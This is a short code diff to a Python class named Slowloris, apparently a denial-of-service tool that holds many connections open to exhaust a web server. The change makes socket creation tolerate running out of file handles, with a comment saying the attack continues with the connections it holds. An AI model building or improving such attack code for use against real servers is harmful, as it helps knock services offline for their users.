@@ -66,7 +66,11 @@ class Slowloris:
         return sum(1 for key in self._selector.get_map().values() if key.data == "open")
 
     def _open(self) -> None:
-        sock = socket.socket()
+        try:
+            sock = socket.socket()
+        except OSError:  # out of files: count it, the attack goes on with what it holds
+            self.connect_failures += 1
+            return
         sock.setblocking(False)
         try:
             sock.bind((self.source, 0))
